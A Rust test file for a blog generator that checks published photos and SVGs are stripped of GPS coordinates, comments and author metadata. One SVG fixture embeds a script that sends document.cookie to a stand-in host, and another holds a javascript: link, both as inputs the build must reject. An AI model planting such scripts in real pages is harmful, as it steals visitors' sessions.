//! Photo metadata through the whole build: what readers download carries no location.
//!
//! Fixture images are made here: the bundled blog's baseline JPEG with an EXIF block holding a
//! GPS pointer spliced in, and a 1×1 PNG with `eXIf` and `tEXt` chunks.

use crate::support::SiteTest;

const GPS_MARKER: &[u8] = b"GPS";

/// EXIF (big-endian TIFF) with IFD0 holding only a GPS IFD pointer, and a GPS IFD holding
/// GPSLatitudeRef = "N".
fn exif_with_gps() -> Vec<u8> {
    let mut t = Vec::new();
    t.extend_from_slice(b"MM\0*\0\0\0\x08");
    t.extend_from_slice(&[0, 1]); // IFD0: one entry
    t.extend_from_slice(&[0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 26]); // GPS pointer → 26
    t.extend_from_slice(&[0, 0, 0, 0]); // no next IFD
    t.extend_from_slice(&[0, 1]); // GPS IFD: one entry
    t.extend_from_slice(&[0, 1, 0, 2, 0, 0, 0, 2, b'N', 0, 0, 0]); // GPSLatitudeRef "N"
    t.extend_from_slice(&[0, 0, 0, 0]);
    t.extend_from_slice(b"GPSLatitude");
    t
}

fn jpeg_with_gps(clean: &[u8]) -> Vec<u8> {
    let mut payload = b"Exif\0\0".to_vec();
    payload.extend(exif_with_gps());
    let len = (payload.len() + 2) as u16;
    let mut out = clean[..2].to_vec(); // SOI
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&len.to_be_bytes());
    out.extend(payload);
    out.extend_from_slice(&[0xFF, 0xFE, 0, 16]);
    out.extend_from_slice(b"shot at 48.6N 3"); // a COM segment: 14 bytes + length
    out.extend_from_slice(&clean[2..]);
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut c = (data.len() as u32).to_be_bytes().to_vec();
    let mut body = kind.to_vec();
    body.extend_from_slice(data);
    c.extend_from_slice(&body);
    c.extend_from_slice(&crc32(&body).to_be_bytes());
    c
}

/// A 1×1 grey PNG; `idat` is returned too, to compare pixels after cleaning.
fn png_with_metadata() -> (Vec<u8>, Vec<u8>) {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]));
    png.extend(chunk(b"eXIf", &exif_with_gps()));
    png.extend(chunk(b"tEXt", b"Comment\0taken at the checkpoint"));
    // zlib stream of one scanline: filter 0, one grey byte 0x80.
    let idat = chunk(
        b"IDAT",
        &[
            0x78, 0x01, 0x01, 0x02, 0x00, 0xFD, 0xFF, 0x00, 0x80, 0x00, 0x81, 0x00, 0x81,
        ],
    );
    png.extend(idat.clone());
    png.extend(chunk(b"IEND", &[]));
    (png, idat)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn road_jpeg() -> Vec<u8> {
    std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("content/2023/bakhmut-encirclement/road.jpg"),
    )
    .unwrap()
}

/// `config` with `[images] publish_originals = true` (the originals a dispatch shows are
/// otherwise replaced by their resized variants).
fn with_originals(config: &str) -> String {
    format!("{config}\n[images]\npublish_originals = true\n")
}

fn site_with_images() -> (SiteTest, Vec<u8>, Vec<u8>) {
    let clean = road_jpeg();
    let mut site = SiteTest::fixture("basic");
    site.file_bytes(
        "content/2023/bakhmut-encirclement/road.jpg",
        &jpeg_with_gps(&clean),
    );
    let (png, idat) = png_with_metadata();
    site.file_bytes("static/badge.png", &png);
    site.file(
        "content/2023/bakhmut-encirclement/index.md",
        "+++\ntitle = \"Bakhmut under siege\"\ndate = 2023-02-05T10:00:00+02:00\ncities = [\"Bakhmut\"]\n+++\n\n![A road](road.jpg)\n",
    );
    (site, clean, idat)
}

#[test]
fn published_images_carry_no_metadata_and_identical_pixels() {
    let (mut site, clean, idat) = site_with_images();
    let config = site.read("config.toml");
    site.file("config.toml", &with_originals(&config));
    assert!(contains(
        &std::fs::read(site.path("content/2023/bakhmut-encirclement/road.jpg")).unwrap(),
        GPS_MARKER
    ));
    site.build()
        .success()
        .stdout_contains("2 images cleaned of metadata");
    let jpg = std::fs::read(site.path("output/2023/02/bakhmut-encirclement/road.jpg")).unwrap();
    assert_eq!(
        jpg, clean,
        "the JPEG must come out exactly as it was before metadata was added"
    );
    assert!(!contains(&jpg, b"Exif") && !contains(&jpg, GPS_MARKER) && !contains(&jpg, b"shot at"));
    let png = std::fs::read(site.path("output/badge.png")).unwrap();
    assert!(!contains(&png, b"eXIf") && !contains(&png, b"tEXt") && !contains(&png, b"checkpoint"));
    assert!(
        contains(&png, &idat),
        "PNG pixel data must be byte-identical"
    );
    // The page shows the photo with its real size.
    site.file_contains(
        "output/2023/02/bakhmut-encirclement/index.html",
        "width=\"480\" height=\"270\"",
    );
}

#[test]
fn with_stripping_off_a_gps_photo_is_an_error_unless_allowed() {
    let (mut site, _, _) = site_with_images();
    let config = site.read("config.toml");
    site.file(
        "config.toml",
        &with_originals(&format!("{config}\nstrip_image_metadata = false\n")),
    );
    site.build().failure().stderr_contains(
        "content/2023/bakhmut-encirclement/road.jpg: error: this image carries GPS coordinates",
    );
    assert!(!site.exists("output/index.html"), "nothing is published");
    site.file(
        "config.toml",
        &with_originals(&format!(
            "{config}\nstrip_image_metadata = false\nimage_metadata_allow = [\"content/2023/bakhmut-encirclement/road.jpg\", \"static/badge.png\"]\n"
        )),
    );
    site.build().success();
    let jpg = std::fs::read(site.path("output/2023/02/bakhmut-encirclement/road.jpg")).unwrap();
    assert!(
        contains(&jpg, GPS_MARKER),
        "an allow-listed file is published as is"
    );
    // And `check` refuses to pass such a site.
    let root = site.root().display().to_string();
    site.run(&["check", "--root", &root, "--now", crate::support::NOW])
        .failure()
        .stdout_contains("image still carries GPS coordinates");
}

#[test]
fn tiff_and_heic_are_refused() {
    let mut site = SiteTest::fixture("basic");
    site.file_bytes("static/scan.tiff", b"MM\0*\0\0\0\x08\0\0\0\0\0\0");
    site.build()
        .failure()
        .stderr_contains("static/scan.tiff: error:")
        .stderr_contains("JPEG, PNG or WebP");
}

#[test]
fn svg_with_a_script_is_refused_and_its_metadata_dropped_whatever_its_name() {
    let mut site = SiteTest::fixture("basic");
    // Inkscape's editor data keeps the author's file paths; a comment can say anything
    let drawing = "<?xml version=\"1.0\"?>\n<!-- Olena's front-line sketch -->\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" inkscape:export-filename=\"/home/olena/bakhmut.png\" viewBox=\"0 0 10 10\"><metadata>Olena K., Bakhmut</metadata><path d=\"M0 0h10\"/></svg>\n";
    site.file("static/map.svg", drawing);
    site.file("static/sketch.png", drawing);
    site.build().success();
    for out in ["output/map.svg", "output/sketch.png"] {
        let published = site.read(out);
        assert!(published.contains("<path d=\"M0 0h10\"/>"), "{published}");
        for gone in ["Olena", "/home/", "inkscape", "<!--"] {
            assert!(
                !published.contains(gone),
                "{out} still has {gone}: {published}"
            );
        }
    }
    // a script, under any name, fails the build at its line and publishes nothing new
    site.file(
        "content/2023/bakhmut-encirclement/chart",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"1\" height=\"1\"/>\n  <script>fetch('https://x.example/'+document.cookie)</script>\n</svg>\n",
    );
    dispatch_showing(&mut site, "chart");
    site.file(
        "static/map.svg",
        "<svg><a href=\"javascript:alert(1)\"/></svg>",
    );
    site.build()
        .failure()
        .stderr_contains("content/2023/bakhmut-encirclement/chart: error: this SVG contains a <script> element (line 3)")
        .stderr_contains("static/map.svg: error: this SVG contains a link that leaves the file")
        .stderr_contains("export the drawing as PNG");
    assert!(!site.read("output/map.svg").contains("javascript"));
}

/// Makes the bakhmut dispatch show the image `name` from its bundle.
fn dispatch_showing(site: &mut SiteTest, name: &str) {
    site.file(
        "content/2023/bakhmut-encirclement/index.md",
        &format!("+++\ntitle = \"Bakhmut under siege\"\ndate = 2023-02-05T10:00:00+02:00\ncities = [\"Bakhmut\"]\n+++\n\n![A road]({name})\n"),
    );
}

#[test]
fn a_gps_photo_is_cleaned_whatever_its_name() {
    let clean = road_jpeg();
    let tagged = jpeg_with_gps(&clean);
    let mut site = SiteTest::fixture("basic");
    let names = [
        "content/2023/bakhmut-encirclement/photo.jfif",
        "static/a.jpe",
        "static/noextension",
        "static/photo.txt",
    ];
    for name in names {
        site.file_bytes(name, &tagged);
    }
    dispatch_showing(&mut site, "photo.jfif");
    let config = site.read("config.toml");
    site.file("config.toml", &with_originals(&config));
    site.build()
        .success()
        .stdout_contains("4 images cleaned of metadata");
    for out in [
        "output/2023/02/bakhmut-encirclement/photo.jfif",
        "output/a.jpe",
        "output/noextension",
        "output/photo.txt",
    ] {
        let published = std::fs::read(site.path(out)).unwrap();
        assert_eq!(published, clean, "{out} must come out with no metadata");
    }
    site.file_contains(
        "output/2023/02/bakhmut-encirclement/index.html",
        "width=\"480\" height=\"270\"",
    );
}

/// Headers of formats whose metadata Dateline cannot remove, each under a misleading name.
const UNSTRIPPABLE: [(&str, &[u8], &str); 4] = [
    (
        "static/holiday.jpg",
        b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf\0\0\0\0",
        "AVIF",
    ),
    (
        "static/scan.png",
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\0",
        "HEIC/HEIF",
    ),
    // a DNG is a TIFF: little-endian header, IFD0 with a DNGVersion entry
    (
        "static/notes.txt",
        b"II*\0\x08\0\0\0\x01\0\x12\xc6\x01\0\x04\0\0\0\x01\x04\0\0\0\0\0\0",
        "TIFF/camera raw",
    ),
    (
        "content/2023/bakhmut-encirclement/raw",
        b"\0\0\0\x18ftypcrx \0\0\0\x01crx isom\0\0\0\0",
        "TIFF/camera raw",
    ),
];

#[test]
fn formats_we_cannot_clean_are_refused_unless_allowed() {
    let mut site = SiteTest::fixture("basic");
    for (name, bytes, _) in UNSTRIPPABLE {
        site.file_bytes(name, bytes);
    }
    site.build().failure();
    for (name, _, format) in UNSTRIPPABLE {
        site.stderr_contains(&format!(
            "{name}: error: this file is in {format} format, which can carry GPS and camera data that Dateline cannot remove; export it as JPEG, PNG or WebP, or list it in `image_metadata_allow`"
        ));
    }
    assert!(!site.exists("output/index.html"), "nothing is published");

    let allow: Vec<String> = UNSTRIPPABLE
        .iter()
        .map(|(n, _, _)| format!("\"{n}\""))
        .collect();
    let config = site.read("config.toml");
    site.file(
        "config.toml",
        &format!("{config}\nimage_metadata_allow = [{}]\n", allow.join(", ")),
    );
    site.build().success();
    let published = std::fs::read(site.path("output/holiday.jpg")).unwrap();
    assert_eq!(
        published, UNSTRIPPABLE[0].1,
        "an allow-listed file is published as is"
    );
}

fn zlib(data: &[u8]) -> Vec<u8> {
    miniz_oxide::deflate::compress_to_vec_zlib(data, 6)
}

/// A 1×1 PNG with one text chunk holding `text` after its keyword.
fn png_with_text(kind: &[u8; 4], text: &[u8]) -> Vec<u8> {
    let (png, _) = png_with_metadata();
    let ihdr_end = 8 + 12 + 13;
    let idat_start = png.windows(4).position(|w| w == b"IDAT").unwrap() - 4;
    [&png[..ihdr_end], &chunk(kind, text), &png[idat_start..]].concat()
}

#[test]
fn with_stripping_off_gps_in_compressed_png_text_is_found() {
    // XMP packets carry padding, so zlib compresses the text rather than storing it
    let xmp = format!(
        "<x:xmpmeta><rdf:Description exif:GPSLatitude='48,35.7N'/></x:xmpmeta>{}",
        " ".repeat(2048)
    );
    let ztxt = [&b"XML:com.adobe.xmp\0\0"[..], &zlib(xmp.as_bytes())].concat();
    let itxt = [&b"XML:com.adobe.xmp\0\x01\0\0\0"[..], &zlib(xmp.as_bytes())].concat();
    let mut site = SiteTest::fixture("basic");
    site.file_bytes("static/z.png", &png_with_text(b"zTXt", &ztxt));
    site.file_bytes("static/i.png", &png_with_text(b"iTXt", &itxt));
    for png in ["static/z.png", "static/i.png"] {
        assert!(!contains(
            &std::fs::read(site.path(png)).unwrap(),
            GPS_MARKER
        ));
    }
    let config = site.read("config.toml");
    site.file(
        "config.toml",
        &format!("{config}\nstrip_image_metadata = false\n"),
    );
    site.build()
        .failure()
        .stderr_contains("static/z.png: error: this image carries GPS coordinates")
        .stderr_contains("static/i.png: error: this image carries GPS coordinates");
    // with stripping on, both are cleaned
    site.file("config.toml", &config);
    site.build().success();
    let z = std::fs::read(site.path("output/z.png")).unwrap();
    assert!(!contains(&z, b"zTXt"));
}

#[test]
fn check_finds_gps_under_a_misleading_name() {
    let mut site = SiteTest::fixture("basic");
    site.file_bytes("static/photo.txt", &jpeg_with_gps(&road_jpeg()));
    let config = site.read("config.toml");
    site.file(
        "config.toml",
        &format!(
            "{config}\nstrip_image_metadata = false\nimage_metadata_allow = [\"static/photo.txt\"]\n"
        ),
    );
    let root = site.root().display().to_string();
    site.run(&["check", "--root", &root, "--now", crate::support::NOW])
        .failure()
        .stdout_contains("photo.txt: image still carries GPS coordinates")
        .stdout_contains("1 images with GPS");
}
